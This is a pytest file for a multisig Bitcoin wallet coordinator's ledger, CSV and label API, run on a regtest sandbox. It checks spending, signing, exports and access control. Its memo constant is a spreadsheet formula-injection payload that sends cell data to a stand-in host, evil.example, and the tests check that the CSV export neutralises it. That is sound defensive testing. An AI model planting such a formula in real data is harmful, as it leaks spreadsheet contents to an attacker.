"""The ledger API on a real history: a coin comes in on the regtest sandbox, Bob
proposes a spend over HTTP, Bob and Dave upload their devices' signatures (test
seeds) to the signing ceremony, the combined PSBT is finalized by bdkpython,
broadcast and mined.
Every member, a viewer too, reads the ledger and its CSV and label exports;
keyholders import labels; outsiders get 404, the anonymous 401."""

from __future__ import annotations

import base64
import csv
import io
import json

import bdkpython as bdk
import pytest
from embit.psbt import PSBT

from coordinator.chain.esplora import EsploraClient
from coordinator.chain.sandbox import faucet
from coordinator.chain.sandbox.chain import Chain
from coordinator.chain.sandbox.server import serve
from coordinator.chain.sync import sync_wallet
from coordinator.governance.ledger_csv import COLUMNS
from coordinator.store import open_database, wallets

from .. import keys
from ..psbt.chain import sign
from .conftest import WALLET_TEXT, Browser, member
from .funding import faucet_address

MEMO = "=HYPERLINK(\"https://evil.example/?\"&A2, \"roof\")"


@pytest.fixture
def sandbox():
    server = serve(Chain())
    yield server
    server.stop()


def _sync(config, sandbox, wallet_id: int) -> None:
    db = open_database(config.database)
    try:
        name = db.execute("SELECT name FROM wallets WHERE id = ?", [wallet_id]).fetchone()[0]
        with EsploraClient(sandbox.url, "regtest", retries=1) as backend:
            sync_wallet(db, wallets.get(db, name), backend)
    finally:
        db.close()


@pytest.fixture
def history(app, config, admin, wallet_id, sandbox):
    """100,000 sat in (confirmed); Bob's proposal paying 20,000, which Bob (seed 0)
    and Dave (seed 1) sign through the signing ceremony's upload route, broadcast
    and mined; Carol is a viewer."""
    bob = member(app, admin, wallet_id, "keyholder", "Bob")
    dave = member(app, admin, wallet_id, "keyholder", "Dave")
    carol = member(app, admin, wallet_id, "viewer", "Carol")
    faucet.pay(sandbox.chain, keys.descriptor(2, 3).script_pubkey(0, 0).data, 100_000, confirm=True)
    _sync(config, sandbox, wallet_id)
    made = bob.post(f"/wallets/{wallet_id}/proposals", {
        "payments": [{"address": faucet_address(), "amount": 20_000}], "memo": MEMO, "fee_rate": 2_000})
    assert made.status_code == 201, made.get_json()
    path = f"/wallets/{wallet_id}/proposals/{made.get_json()['proposal']['id']}"
    for who, seed in ((bob, 0), (dave, 1)):
        mine = sign(PSBT.from_base64(made.get_json()["psbt"]), [seed]).to_base64()
        uploaded = who.post(f"{path}/signatures", {"psbt": mine, "channel": "upload"})
        assert uploaded.status_code == 201, uploaded.get_json()
    signed = base64.b64encode(bob.get(f"{path}/psbt").get_data()).decode()
    final = bdk.Psbt(signed).finalize()
    assert final.could_finalize, final.errors
    sandbox.chain.submit(bytes(final.psbt.extract_tx().serialize()))
    sandbox.chain.mine(1)
    _sync(config, sandbox, wallet_id)
    return {"bob": bob, "carol": carol, "proposal": made.get_json()["proposal"]["id"],
            "fee": bdk.Psbt(signed).fee(), "base": f"/wallets/{wallet_id}"}


def test_a_viewer_reads_the_ledger_with_the_memo_the_proposer_and_the_balance(history):
    response = history["carol"].get(f"{history['base']}/ledger")
    book = response.get_json()["ledger"]
    incoming, spent = book["entries"]

    assert response.status_code == 200 and response.headers["Huddle-Audit-Head"].startswith("wallet:")
    assert (incoming["direction"], incoming["net"], incoming["balance_after"]) == ("incoming", 100_000, 100_000)
    assert spent["direction"] == "outgoing" and spent["net"] == -(20_000 + history["fee"])
    assert spent["fee"] == history["fee"] and spent["memo"] == MEMO and spent["proposal"] == history["proposal"]
    assert spent["proposer"]["name"] == "Bob" and not spent["pending"] and spent["memo_verified"] is True
    assert [(p["name"], p["fingerprint"]) for p in spent["signed_by"]] == [
        ("Bob", keys.fingerprint(0)), ("Dave", keys.fingerprint(1))]
    assert book["balance"] == {"confirmed": 80_000 - history["fee"], "pending": 0, "total": 80_000 - history["fee"]}
    assert [p["balance"] for p in book["balances"]] == [100_000, 80_000 - history["fee"]]


def test_the_csv_has_a_header_sats_and_btc_and_a_guarded_memo(history):
    response = history["carol"].get(f"{history['base']}/ledger.csv")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))

    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.get_data(as_text=True).splitlines()[0].split(",") == list(COLUMNS)
    assert [r["direction"] for r in rows] == ["incoming", "outgoing"]
    spent = rows[1]
    assert spent["memo"] == "'" + MEMO and spent["proposer"] == "Bob" and spent["signed_by"] == "Bob; Dave"
    assert int(spent["net_sats"]) == -(20_000 + history["fee"]) and int(spent["fee_sats"]) == history["fee"]
    assert spent["net_btc"] == f"-0.{20_000 + history['fee']:08d}" and rows[0]["balance_btc"] == "0.00100000"


def test_labels_export_the_memo_and_a_keyholder_imports_more(history):
    bob, carol, base = history["bob"], history["carol"], history["base"]
    txid = carol.get(f"{base}/ledger").get_json()["ledger"]["entries"][1]["txid"]
    exported = carol.get(f"{base}/labels")
    line = json.dumps({"type": "addr", "ref": faucet_address(), "label": "the roofer"})

    refused = carol.post(f"{base}/labels", {"text": line})
    imported = bob.post(f"{base}/labels", {"text": exported.get_data(as_text=True) + line})
    again = carol.get(f"{base}/labels").get_data(as_text=True).splitlines()

    assert exported.status_code == 200 and exported.mimetype == "application/jsonl"
    assert json.loads(exported.get_data(as_text=True)) == {"type": "tx", "ref": txid, "label": MEMO,
                                                           "fee": history["fee"], "value": -(20_000 + history["fee"])}
    assert refused.status_code == 403
    assert imported.status_code == 200 and imported.get_json()["imported"] == {
        "records": 2, "applied": 1, "unchanged": 1}
    assert [json.loads(x)["label"] for x in again] == [MEMO, "the roofer"]


def test_a_bad_label_file_is_refused_whole_with_its_line(history):
    bob, base = history["bob"], history["base"]
    before = bob.get(f"{base}/labels").get_data()
    good = json.dumps({"type": "addr", "ref": faucet_address(), "label": "fine"})

    response = bob.post(f"{base}/labels", {"text": good + "\n" + '{"type": "txn", "ref": "x"}'})

    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "label_bad_type"
    assert response.get_json()["error"]["details"] == {"line": 2}
    assert bob.get(f"{base}/labels").get_data() == before


def test_outsiders_get_404_and_the_anonymous_401_on_every_ledger_route(app, admin, wallet_id):
    other = admin.post("/wallets/import", {"text": keys.descriptor(2, 2, first=3).to_string(), "name": "Other"})
    eve = member(app, admin, other.get_json()["wallet"]["id"], "admin", "Eve")
    anonymous = Browser(app.test_client())
    base = f"/wallets/{wallet_id}"

    for path in ("/ledger", "/ledger.csv", "/labels"):
        assert eve.get(base + path).status_code == 404
        assert anonymous.get(base + path).status_code == 401
    assert eve.post(f"{base}/labels", {"text": ""}).status_code == 404
    assert anonymous.post(f"{base}/labels", {"text": ""}).status_code == 401
    assert WALLET_TEXT not in eve.get(base + "/ledger").get_data(as_text=True)
